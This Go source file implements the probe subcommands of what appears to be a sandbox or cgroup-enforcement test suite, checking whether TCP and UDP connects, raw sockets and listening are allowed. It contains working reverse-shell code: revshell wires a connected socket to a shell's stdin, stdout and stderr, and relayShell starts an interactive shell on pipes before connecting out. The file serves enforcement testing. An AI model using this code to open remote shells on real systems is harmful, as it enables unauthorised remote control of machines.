package main

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The probe subcommands run as the scenario processes: the suite re-execs
// itself as "suite probe ..." directly inside a workload's cgroup. Each
// performs one operation with raw syscalls (so the errno is exactly what the
// kernel returned) and prints "ok" (exit 0) or "error: NAME: text" (exit 1).
// Usage errors exit 2.
const probeUsage = `usage: suite probe SUBCOMMAND
  connect HOST:PORT         TCP connect
  udp HOST:PORT             unconnected UDP sendto
  raw                       socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)
  packet                    socket(AF_PACKET, SOCK_RAW, 0)
  listen                    bind 127.0.0.1:0 and listen
  revshell HOST:PORT SHELL  connect, put the socket on fds 0-2, exec SHELL
  relayshell HOST:PORT SHELL  start SHELL -i on pipes, then connect (a relay)
  movecg DIR SUBCOMMAND...  move this process into cgroup DIR, then run SUBCOMMAND
  pause                     sleep until killed (a workload's placeholder init)`

func probeMain(args []string) int {
	if len(args) == 0 {
		return usageErr()
	}
	var err error
	switch cmd := args[0]; cmd {
	case "connect", "udp":
		if len(args) != 2 {
			return usageErr()
		}
		ap, perr := netip.ParseAddrPort(args[1])
		if perr != nil {
			fmt.Fprintf(os.Stderr, "probe: bad address %q: %v\n", args[1], perr)
			return 2
		}
		if cmd == "connect" {
			err = tcpConnect(ap)
		} else {
			err = udpSendto(ap)
		}
	case "raw":
		err = openSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	case "packet":
		err = openSocket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	case "listen":
		err = listenLoopback()
	case "revshell":
		if len(args) != 3 {
			return usageErr()
		}
		ap, perr := netip.ParseAddrPort(args[1])
		if perr != nil {
			fmt.Fprintf(os.Stderr, "probe: bad address %q: %v\n", args[1], perr)
			return 2
		}
		return revshell(ap, args[2])
	case "relayshell":
		if len(args) != 3 {
			return usageErr()
		}
		ap, perr := netip.ParseAddrPort(args[1])
		if perr != nil {
			fmt.Fprintf(os.Stderr, "probe: bad address %q: %v\n", args[1], perr)
			return 2
		}
		return relayShell(ap, args[2])
	case "movecg":
		if len(args) < 3 {
			return usageErr()
		}
		if err := moveSelf(args[1]); err != nil {
			fmt.Printf("movecg: %v\n", err)
			return 3
		}
		return probeMain(args[2:])
	case "pause":
		for {
			time.Sleep(time.Hour)
		}
	default:
		return usageErr()
	}
	if err != nil {
		fmt.Printf("error: %s\n", errText(err))
		return 1
	}
	fmt.Println("ok")
	return 0
}

func usageErr() int {
	fmt.Fprintln(os.Stderr, probeUsage)
	return 2
}

// errText is "EPERM: operation not permitted" for an errno, else the error.
func errText(err error) string {
	var errno syscall.Errno
	if errors.As(err, &errno) {
		name := unix.ErrnoName(errno)
		if name == "" {
			name = "errno" + strconv.Itoa(int(errno))
		}
		return name + ": " + errno.Error()
	}
	return err.Error()
}

func sockaddr(ap netip.AddrPort) (int, unix.Sockaddr) {
	addr := ap.Addr()
	if addr.Is4() || addr.Is4In6() {
		return unix.AF_INET, &unix.SockaddrInet4{Port: int(ap.Port()), Addr: addr.Unmap().As4()}
	}
	return unix.AF_INET6, &unix.SockaddrInet6{Port: int(ap.Port()), Addr: addr.As16()}
}

func tcpSocket(ap netip.AddrPort, cloexec bool) (int, error) {
	family, sa := sockaddr(ap)
	typ := unix.SOCK_STREAM
	if cloexec {
		typ |= unix.SOCK_CLOEXEC
	}
	fd, err := unix.Socket(family, typ, 0)
	if err != nil {
		return -1, err
	}
	tv := unix.NsecToTimeval((10 * time.Second).Nanoseconds())
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv); err != nil {
		unix.Close(fd)
		return -1, err
	}
	for {
		err = unix.Connect(fd, sa)
		if err != unix.EINTR {
			break
		}
	}
	if err != nil {
		unix.Close(fd)
		return -1, err
	}
	return fd, nil
}

func tcpConnect(ap netip.AddrPort) error {
	fd, err := tcpSocket(ap, true)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

func udpSendto(ap netip.AddrPort) error {
	family, sa := sockaddr(ap)
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, []byte("probe\n"), 0, sa)
}

func openSocket(family, typ, proto int) error {
	fd, err := unix.Socket(family, typ|unix.SOCK_CLOEXEC, proto)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

func listenLoopback() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	return unix.Listen(fd, 1)
}

// revshell is what "nc HOST PORT -e SHELL" does: the connected socket
// becomes the shell's stdin, stdout and stderr. If execve fails (an LSM or
// fmod_ret backend refusing it) the error goes to the probe's original
// stdout, never to the socket, and the probe exits 1 by itself.
func revshell(ap netip.AddrPort, shell string) int {
	out, err := unix.FcntlInt(1, unix.F_DUPFD_CLOEXEC, 10)
	if err != nil {
		fmt.Printf("error: dup stdout: %s\n", errText(err))
		return 1
	}
	report := os.NewFile(uintptr(out), "stdout")
	fd, err := tcpSocket(ap, true)
	if err != nil {
		fmt.Fprintf(report, "connect-error: %s\n", errText(err))
		return 1
	}
	for i := 0; i < 3; i++ {
		if err := unix.Dup3(fd, i, 0); err != nil {
			fmt.Fprintf(report, "error: dup3: %s\n", errText(err))
			return 1
		}
	}
	err = unix.Exec(shell, []string{filepath.Base(shell)}, []string{"PATH=/bin:/sbin:/usr/bin:/usr/sbin"})
	fmt.Fprintf(report, "error: %s\n", errText(err))
	return 1
}

func moveSelf(dir string) error {
	pid := strconv.Itoa(os.Getpid())
	if err := os.WriteFile(filepath.Join(dir, "cgroup.procs"), []byte(pid), 0); err != nil {
		return err
	}
	b, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "0::") {
			fmt.Fprintf(os.Stderr, "cgroup %s\n", strings.TrimPrefix(l, "0::"))
		}
	}
	return nil
}

// relayShell is a relayed reverse shell whose peer connects last: SHELL -i
// runs on pipes from and to this process, which then connects. It prints
// the connect's outcome, and on stderr how the shell ended
// ("shell-signal: N", or "shell-alive" when it still ran after 5 s and
// was killed here).
func relayShell(ap netip.AddrPort, shell string) int {
	inR, inW, err := os.Pipe()
	if err != nil {
		fmt.Printf("error: pipe: %s\n", errText(err))
		return 1
	}
	outR, outW, err := os.Pipe()
	if err != nil {
		fmt.Printf("error: pipe: %s\n", errText(err))
		return 1
	}
	defer inW.Close()
	defer outR.Close()
	proc, err := os.StartProcess(shell, []string{filepath.Base(shell), "-i"}, &os.ProcAttr{
		Files: []*os.File{inR, outW, outW}, Env: []string{"PATH=/bin:/sbin:/usr/bin:/usr/sbin"}})
	inR.Close()
	outW.Close()
	if err != nil {
		fmt.Printf("error: start %s: %s\n", shell, errText(err))
		return 1
	}
	time.Sleep(500 * time.Millisecond) // the shell's exec comes first
	_, cerr := tcpSocket(ap, true)
	done := make(chan *os.ProcessState, 1)
	go func() {
		st, _ := proc.Wait()
		done <- st
	}()
	select {
	case st := <-done:
		if ws, ok := st.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			fmt.Fprintf(os.Stderr, "shell-signal: %d\n", int(ws.Signal()))
		} else {
			fmt.Fprintf(os.Stderr, "shell-exit: %d\n", st.ExitCode())
		}
	case <-time.After(5 * time.Second):
		_ = proc.Kill()
		fmt.Fprintln(os.Stderr, "shell-alive")
	}
	if cerr != nil {
		fmt.Printf("error: %s\n", errText(cerr))
		return 1
	}
	fmt.Println("ok")
	return 0
}
